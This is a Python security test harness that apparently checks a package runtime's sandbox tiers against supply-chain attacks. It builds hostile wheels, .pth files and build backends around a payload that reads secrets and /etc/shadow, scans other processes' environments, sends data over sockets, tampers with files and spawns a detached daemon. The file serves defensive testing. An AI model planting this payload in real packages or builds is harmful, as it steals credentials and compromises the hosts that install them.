"""Attacks on supply, from a build and from an import: `python -m tests.escape.lab_supply MODE`.

Rules of this file:

1. The hostile code is one text. It runs when a build backend is imported, when a wheel's `.pth`
   file is read at supply's compilation (as LiteLLM 1.82.8 did), when a module is imported there,
   and when the environment is used by a run.
2. It tells what it could do: a build in its wheel, an import in its exception, a run in its value.
   What it did to the host is looked at from the host.
3. A mode is a user and a tier. `open` is the control: the tier `process`, where most of it works.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
from collections.abc import Mapping
from pathlib import Path

from orq_runtime import Runtime, Step
from orq_runtime._supply.uv import _find_binary
from orq_runtime.model.environment import SupplyRequest
from tests.escape.modes import MODES
from tests.supply_fixtures import (
    Recorder,
    Shop,
    make_component,
    make_wheel,
    source_files,
    supplier_with,
)

__all__ = ["HOSTILE"]

_PYTHON = "/usr/bin/python3"
_USER = 61500

HOSTILE = """
import ctypes, glob, json, os, socket, sys
FOUND = {}
def T(name, act):
    try:
        said = act()
    except BaseException as error:
        FOUND[name] = "denied: %s" % type(error).__name__
        return
    FOUND[name] = "done" if said else "denied: nothing"
with open(os.path.join(HERE, "targets.json")) as file:
    at = json.load(file)
def read(path):
    # a private /tmp holds what was written there before, and no secret
    with open(path, "rb") as file:
        said = file.read()
    return said.startswith((b"the", b"root:"))
def write(path):
    with open(path, "ab") as file:
        return file.write(b"#")
def opened(path):
    # no further than that: a file that is edited while it is installed is seen, and refused
    with open(path, "ab"):
        return True
def make(folder):
    os.close(os.open(os.path.join(folder, "made-by-evil"), os.O_CREAT | os.O_WRONLY))
    return True
def tcp():
    with socket.create_connection(("127.0.0.1", at["tcp"]), 2) as one:
        return one.send(b"stolen")
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b"stolen", ("127.0.0.1", at["udp"]))
def unix(address):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(2)
        one.connect(address)
        return one.send(b"stolen")
def environs():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                found += [1] if b"ORQ_CANARY" in file.read() else []
        except OSError:
            pass
    return found
def link():
    os.symlink(at["secret"], "link")
    try:
        return read("link")
    finally:
        os.unlink("link")
def daemon():
    if os.fork():
        return True
    try:
        os.setsid()
    except OSError:
        pass
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"orqsupply", 0, 0, 0)
        for number in range(3, 256):
            try:
                os.close(number)
            except OSError:
                pass
        import time
        time.sleep(120)
    os._exit(0)
T("secret", lambda: read(at["secret"]))
T("secret by a link", link)
T("home", lambda: os.listdir(at["home"]))
T("shadow", lambda: read("/etc/shadow"))
T("variable", lambda: os.environ.get("ORQ_CANARY"))
T("variables of others", environs)
T("tcp", tcp)
T("udp", udp)
T("unix socket", lambda: unix(at["unix"]))
T("abstract socket", lambda: unix("\\0" + at["abstract"]))
T("kill", lambda: os.kill(at["victim"], 0) is None)
T("write the secret", lambda: write(at["secret"]))
T("truncate the secret", lambda: os.truncate(at["secret"], 3) is None)
T("chmod the secret", lambda: os.chmod(at["secret"], 0o600) is None)
for folder in at["folders"]:
    T("write into " + os.path.basename(folder), lambda: make(folder))
T("write the guest", lambda: write(glob.glob(at["cache"] + "/guest/v1/*/__main__.py")[0]))
T("write a neighbour", lambda: opened(
    glob.glob(sys.prefix + "/lib/python*/site-packages/*.py")[0]))
T("daemon", daemon)
"""


class _Lab:
    """The targets, as the mode's user, and what has happened to them."""

    def __init__(self, root: Path, mode: str) -> None:
        self.mode = MODES[mode]
        self.root = root
        self.shop = Shop(root / "shop")
        self.settings = self.shop.settings(python=_PYTHON)
        self.secret = root / "secret"
        self.home = root / "home"
        self.home.mkdir()
        (self.home / ".netrc").write_text("machine example.invalid password hunter2", "utf-8")
        self.secret.write_text("the secret", "utf-8")
        self.listeners: list[socket.socket] = []
        self.targets: dict[str, object] = {
            "secret": str(self.secret),
            "home": str(self.home),
            "cache": str(self.settings.cache_dir),
            "folders": [str(self.settings.cache_dir / "v1" / name) for name in _FOLDERS],
        }

    def listen(self) -> None:
        """Open what must not be reached, and start what must not be killed."""
        tcp, unix, abstract = (
            socket.create_server(("127.0.0.1", 0)),
            socket.socket(socket.AF_UNIX),
            socket.socket(socket.AF_UNIX),
        )
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        unix.bind(str(self.root / "socket"))
        name = f"orq-{os.getpid()}"
        abstract.bind(f"\0{name}")
        for one in (unix, abstract):
            one.listen()
        self.listeners = [tcp, udp, unix, abstract]
        for one in self.listeners:
            one.setblocking(False)
        self.victim = subprocess.Popen(["sleep", "600"], stdout=subprocess.DEVNULL)
        self.targets |= {
            "tcp": tcp.getsockname()[1],
            "udp": udp.getsockname()[1],
            "unix": str(self.root / "socket"),
            "abstract": name,
            "victim": self.victim.pid,
        }

    def reached(self) -> list[str]:
        """Which listeners heard something."""
        heard = []
        for name, one in zip(("tcp", "udp", "unix", "abstract"), self.listeners, strict=True):
            try:
                heard.append(name if (one.recv(9) if name == "udp" else one.accept()) else "")
            except BlockingIOError:
                continue
        return heard

    def text(self, folder: str = "os.path.dirname(os.path.abspath(__file__))") -> str:
        """The hostile code, for a place that has its targets beside it."""
        return f"import os\nHERE = {folder}\n{HOSTILE}"


_FOLDERS = ("uv", "environments", "wheels", "builds", "locks", "guards")


def _from_build(lab: _Lab) -> Mapping[str, str]:
    files = source_files("evil")
    files["targets.json"] = json.dumps(lab.targets)
    where = "os.path.dirname(os.path.abspath(__file__))"
    told = '\nopen(os.path.join("src", "evil", "found.py"), "w").write("FOUND = %r" % FOUND)\n'
    files["backend.py"] = lab.text(where) + told + files["backend.py"]
    folder = make_component(lab.root / "component", files)
    supplier = supplier_with(lab.settings, isolation=lab.mode.tier, uv=lab.root / "uv")
    made = supplier.supply(SupplyRequest(components=(supplier.component(folder),)))
    return _found((made.site_packages / "evil" / "found.py").read_text("utf-8"))


def _found(text: str) -> Mapping[str, str]:
    spaces: dict[str, Mapping[str, str]] = {}
    exec(text, spaces)
    return spaces["FOUND"]


def _from_import(lab: _Lab, *, by_pth: bool) -> Mapping[str, str]:
    """A wheel that attacks where supply compiles it, and another whose file it could change."""
    name = "evilpth" if by_pth else "evilimport"
    end = "" if by_pth else "\nraise RuntimeError(json.dumps(FOUND))\n"
    files = {
        f"{name}/__init__.py": lab.text() + end,
        f"{name}/targets.json": json.dumps(lab.targets),
        f"{name}_told.py": f"import json, {name}\nraise RuntimeError(json.dumps({name}.FOUND))\n",
    }
    if by_pth:
        files[f"{name}.pth"] = f"import {name}\n"
    make_wheel(lab.shop.wheels, name, files=files)
    heard = Recorder()
    supplier = supplier_with(lab.settings, heard, isolation=lab.mode.tier, uv=lab.root / "uv")
    supplier.supply(SupplyRequest(requirements=(name, "neighbour")))
    for event in heard.events:
        if "RuntimeError: " in event.message:
            said = event.message.partition("RuntimeError: ")[2].removesuffix(")")
            found: Mapping[str, str] = json.loads(said)
            return found
    return {"nothing was told": str([event.message for event in heard.events])}


def _from_run(lab: _Lab) -> Mapping[str, str]:
    """The same `.pth` file when a run starts the environment's interpreter."""
    code = "def step():\n    import evilpth\n    return evilpth.FOUND\n"
    step = Step(source=code, function="step", requirements=["evilpth", "neighbour"])
    with Runtime(
        cache_dir=lab.settings.cache_dir,
        python=_PYTHON,
        offline=True,
        find_links=lab.settings.find_links,
        isolation=lab.mode.tier,
    ) as runtime:
        found = runtime.run(step, {}).value
    assert isinstance(found, dict)
    return found


def _daemons() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "comm").read_text().strip() == "orqsupply":
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _become(lab: _Lab) -> None:
    """Be the mode's user, whose everything is."""
    shutil.copy(_find_binary(os.environ["PATH"]), lab.root / "uv")
    (lab.root / "uv").chmod(0o755)
    make_wheel(lab.shop.wheels, "neighbour")
    if not lab.mode.is_root:
        subprocess.run(["chown", "-R", str(_USER), lab.root], check=True)
        os.setgroups([])
        os.setresgid(_USER, _USER, _USER)
        os.setresuid(_USER, _USER, _USER)
        ctypes.CDLL(None).prctl(4, 1)  # dumpable again, as any process that started so


def _attacked(lab: _Lab) -> dict[str, object]:
    said: dict[str, object] = {
        "build": _from_build(lab),
        "pth": _from_import(lab, by_pth=True),
        "import": _from_import(lab, by_pth=False),
        "run": _from_run(lab),
    }
    daemons = _daemons()
    for pid in daemons:
        os.kill(pid, signal.SIGKILL)
    said["host"] = {
        "reached": lab.reached(),
        "secret": lab.secret.read_text("utf-8"),
        "mode": oct(lab.secret.stat().st_mode & 0o777),
        "made": len(list(lab.settings.cache_dir.rglob("made-by-evil"))),
        "victim": lab.victim.poll(),
        "daemons": len(daemons),
    }
    return said


def main(name: str) -> None:
    """Print what each attack could do, by its place, and what the host saw of it."""
    os.umask(0o022)
    with tempfile.TemporaryDirectory(prefix="orq-supply-", ignore_cleanup_errors=True) as folder:
        root = Path(folder)
        root.chmod(0o755)
        lab = _Lab(root, name)
        _become(lab)
        lab.listen()
        try:
            print(json.dumps(_attacked(lab)))
        finally:
            lab.victim.kill()
            lab.victim.wait()


if __name__ == "__main__":
    main(sys.argv[1])
